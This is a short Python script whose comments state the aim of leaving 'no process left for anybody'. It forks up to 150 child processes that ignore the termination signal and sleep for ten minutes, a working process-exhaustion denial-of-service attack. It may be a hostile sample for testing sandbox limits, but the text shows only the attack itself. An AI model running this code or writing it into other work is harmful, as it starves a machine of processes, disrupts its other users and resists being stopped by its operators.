# aim: no process left for anybody
# pays: process
import os
import signal
import time

try:
    for _ in range(150):
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(600)
except OSError:
    pass
